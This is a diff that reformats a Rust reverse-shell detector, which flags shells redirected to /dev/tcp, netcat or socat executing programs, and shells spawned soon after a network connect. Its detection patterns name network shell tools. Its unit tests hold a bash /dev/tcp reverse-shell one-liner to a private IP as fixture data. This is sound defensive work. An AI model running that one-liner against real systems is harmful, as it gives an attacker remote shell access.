@@ -42,10 +42,29 @@ impl Default for Config {
     fn default() -> Self {
         Self {
             enabled: true,
-            shells: strings(&["sh", "bash", "dash", "zsh", "ksh", "ash", "busybox", "fish", "tcsh", "csh", "mksh"]),
+            shells: strings(&[
+                "sh", "bash", "dash", "zsh", "ksh", "ash", "busybox", "fish", "tcsh", "csh", "mksh",
+            ]),
             network_services: strings(&[
-                "nginx", "apache2", "httpd", "lighttpd", "php-fpm", "php-cgi", "java", "tomcat", "node", "orthanc",
-                "Orthanc", "storescp", "dcmqrscp", "mosquitto", "vsftpd", "proftpd", "mysqld", "postgres", "redis-server",
+                "nginx",
+                "apache2",
+                "httpd",
+                "lighttpd",
+                "php-fpm",
+                "php-cgi",
+                "java",
+                "tomcat",
+                "node",
+                "orthanc",
+                "Orthanc",
+                "storescp",
+                "dcmqrscp",
+                "mosquitto",
+                "vsftpd",
+                "proftpd",
+                "mysqld",
+                "postgres",
+                "redis-server",
             ]),
             connect_to_exec_secs: 10,
             max_tracked: 65_536,
@@ -61,7 +80,10 @@ pub struct ReverseShell {
 
 impl ReverseShell {
     pub fn new(cfg: Config) -> Self {
-        Self { cfg, connects: HashMap::new() }
+        Self {
+            cfg,
+            connects: HashMap::new(),
+        }
     }
 
     fn is_shell(&self, path: &str) -> bool {
@@ -70,7 +92,13 @@ impl ReverseShell {
     }
 }
 
-const SOCKET_ARGS: [&str; 5] = ["*/dev/tcp/*", "*/dev/udp/*", "*exec:*", "*EXEC:*", "*system:*"];
+const SOCKET_ARGS: [&str; 5] = [
+    "*/dev/tcp/*",
+    "*/dev/udp/*",
+    "*exec:*",
+    "*EXEC:*",
+    "*system:*",
+];
 
 impl Detector for ReverseShell {
     fn name(&self) -> &'static str {
@@ -85,44 +113,83 @@ impl Detector for ReverseShell {
         let now = ev.ts.as_nanos();
         let window = secs_to_ns(self.cfg.connect_to_exec_secs);
         match &ev.kind {
-            EventKind::Connect { addr: NetAddr::Inet { ip, port }, ret } if *ret == 0 || *ret == -115 => {
-                bound(&mut self.connects, self.cfg.max_tracked, |_, c| now.saturating_sub(c.0) < window);
+            EventKind::Connect {
+                addr: NetAddr::Inet { ip, port },
+                ret,
+            } if *ret == 0 || *ret == -115 => {
+                bound(&mut self.connects, self.cfg.max_tracked, |_, c| {
+                    now.saturating_sub(c.0) < window
+                });
                 self.connects.insert(ev.process.pid, (now, *ip, *port));
             }
             EventKind::Exit { .. } => {
                 self.connects.remove(&ev.process.pid);
             }
-            EventKind::Exec { filename, argv, ret, .. } if *ret == 0 => {
+            EventKind::Exec {
+                filename,
+                argv,
+                ret,
+                ..
+            } if *ret == 0 => {
                 let b = basename(filename);
                 let shell = self.is_shell(filename);
                 let joined = argv.join(" ");
                 let mut evidence = Vec::new();
                 let mut peer = None;
                 let mut confidence: f32 = 0.0;
-                if (shell || matches!(b, "perl" | "python" | "python3" | "ruby" | "php" | "awk" | "gawk"))
+                if (shell
+                    || matches!(
+                        b,
+                        "perl" | "python" | "python3" | "ruby" | "php" | "awk" | "gawk"
+                    ))
                     && SOCKET_ARGS[..2].iter().any(|p| glob(p, &joined))
                 {
-                    evidence.push(format!("{b} redirects its standard streams to a network socket: `{joined}`"));
+                    evidence.push(format!(
+                        "{b} redirects its standard streams to a network socket: `{joined}`"
+                    ));
                     confidence = 0.95;
                 }
                 if matches!(b, "nc" | "ncat" | "netcat" | "nc.traditional" | "socat")
-                    && (argv.iter().any(|a| a == "-e" || a == "-c" || a == "--exec" || a == "--sh-exec") || SOCKET_ARGS[2..].iter().any(|p| glob(p, &joined)))
+                    && (argv
+                        .iter()
+                        .any(|a| a == "-e" || a == "-c" || a == "--exec" || a == "--sh-exec")
+                        || SOCKET_ARGS[2..].iter().any(|p| glob(p, &joined)))
                 {
-                    evidence.push(format!("{b} executes a program on a network connection: `{joined}`"));
+                    evidence.push(format!(
+                        "{b} executes a program on a network connection: `{joined}`"
+                    ));
                     confidence = confidence.max(0.9);
                 }
                 if shell {
-                    let own = self.connects.get(&ev.process.pid).filter(|c| now.saturating_sub(c.0) <= window);
-                    let parent = self.connects.get(&ev.process.ppid).filter(|c| now.saturating_sub(c.0) <= window);
+                    let own = self
+                        .connects
+                        .get(&ev.process.pid)
+                        .filter(|c| now.saturating_sub(c.0) <= window);
+                    let parent = self
+                        .connects
+                        .get(&ev.process.ppid)
+                        .filter(|c| now.saturating_sub(c.0) <= window);
                     if let Some((t, ip, port)) = own.or(parent).copied() {
-                        let who = if own.is_some() { "the same process" } else { "its parent" };
+                        let who = if own.is_some() {
+                            "the same process"
+                        } else {
+                            "its parent"
+                        };
                         evidence.push(format!(
                             "{who} connected to {ip}:{port} {:.1}s before `{}` started",
                             now.saturating_sub(t) as f64 / 1e9,
-                            if joined.is_empty() { filename.as_str() } else { joined.as_str() }
+                            if joined.is_empty() {
+                                filename.as_str()
+                            } else {
+                                joined.as_str()
+                            }
                         ));
                         peer = Some((ip, port));
-                        confidence = confidence.max(if argv.iter().any(|a| a == "-i") { 0.95 } else { 0.85 });
+                        confidence = confidence.max(if argv.iter().any(|a| a == "-i") {
+                            0.95
+                        } else {
+                            0.85
+                        });
                     }
                     if let Some(p) = parent_exe(&ev.process) {
                         let pb = basename(p);
@@ -135,7 +202,16 @@ impl Detector for ReverseShell {
                 if evidence.is_empty() {
                     return;
                 }
-                let mut a = SPEC.process_alert(ev, format!("Reverse shell: {} (pid {})", exe(&ev.process), ev.process.pid), Severity::Critical, confidence);
+                let mut a = SPEC.process_alert(
+                    ev,
+                    format!(
+                        "Reverse shell: {} (pid {})",
+                        exe(&ev.process),
+                        ev.process.pid
+                    ),
+                    Severity::Critical,
+                    confidence,
+                );
                 if let Some((ip, port)) = peer {
                     a.dst_ip = Some(ip);
                     a.dst_port = Some(port);
@@ -160,8 +236,17 @@ mod tests {
         let inner = proc_(501, 500, 33, "bash", "/usr/bin/bash", "/usr/bin/bash");
         // bash -c 'bash -i >& /dev/tcp/10.9.0.66/4444 0>&1' started from a web shell.
         let events = [
-            exec(0, outer.clone(), "/usr/bin/bash", &["bash", "-c", "bash -i >& /dev/tcp/10.9.0.66/4444 0>&1"]),
-            ev(1, inner.clone(), heir_model::EventKind::Fork { child_pid: 502 }),
+            exec(
+                0,
+                outer.clone(),
+                "/usr/bin/bash",
+                &["bash", "-c", "bash -i >& /dev/tcp/10.9.0.66/4444 0>&1"],
+            ),
+            ev(
+                1,
+                inner.clone(),
+                heir_model::EventKind::Fork { child_pid: 502 },
+            ),
             connect(2, inner.clone(), "10.9.0.66", 4444),
             exec(3, inner, "/usr/bin/bash", &["bash", "-i"]),
         ];
@@ -176,9 +261,19 @@ mod tests {
     #[test]
     fn python_dup2_one_liner_fires_via_parent_connect() {
         let mut d = ReverseShell::new(Config::default());
-        let py = proc_(700, 1, 1000, "python3", "/usr/bin/python3.11", "/usr/bin/bash");
+        let py = proc_(
+            700,
+            1,
+            1000,
+            "python3",
+            "/usr/bin/python3.11",
+            "/usr/bin/bash",
+        );
         let sh = proc_(701, 700, 1000, "sh", "/usr/bin/dash", "/usr/bin/python3.11");
-        let events = [connect(0, py, "10.9.0.66", 9001), exec(40, sh, "/bin/sh", &["/bin/sh", "-i"])];
+        let events = [
+            connect(0, py, "10.9.0.66", 9001),
+            exec(40, sh, "/bin/sh", &["/bin/sh", "-i"]),
+        ];
         let alerts = run(&mut d, &events);
         assert_eq!(alerts.len(), 1);
         assert_eq!(alerts[0].dst_ip, Some(ip("10.9.0.66")));
@@ -193,10 +288,27 @@ mod tests {
         let cron_sh = proc_(803, 1, 0, "sh", "/usr/bin/dash", "/usr/sbin/cron");
         let events = [
             exec(0, login.clone(), "/usr/bin/bash", &["-bash"]),
-            exec(10, curl.clone(), "/usr/bin/curl", &["curl", "https://updates.example/x"]),
+            exec(
+                10,
+                curl.clone(),
+                "/usr/bin/curl",
+                &["curl", "https://updates.example/x"],
+            ),
             connect(11, curl.clone(), "203.0.113.8", 443),
-            ev(20, curl, heir_model::EventKind::Exit { code: 0, signal: None }),
-            exec(30_000, cron_sh, "/bin/sh", &["/bin/sh", "-c", "run-parts /etc/cron.daily"]),
+            ev(
+                20,
+                curl,
+                heir_model::EventKind::Exit {
+                    code: 0,
+                    signal: None,
+                },
+            ),
+            exec(
+                30_000,
+                cron_sh,
+                "/bin/sh",
+                &["/bin/sh", "-c", "run-parts /etc/cron.daily"],
+            ),
             exec(30_001, login, "/usr/bin/ls", &["ls", "-l"]),
         ];
         assert!(run(&mut d, &events).is_empty());
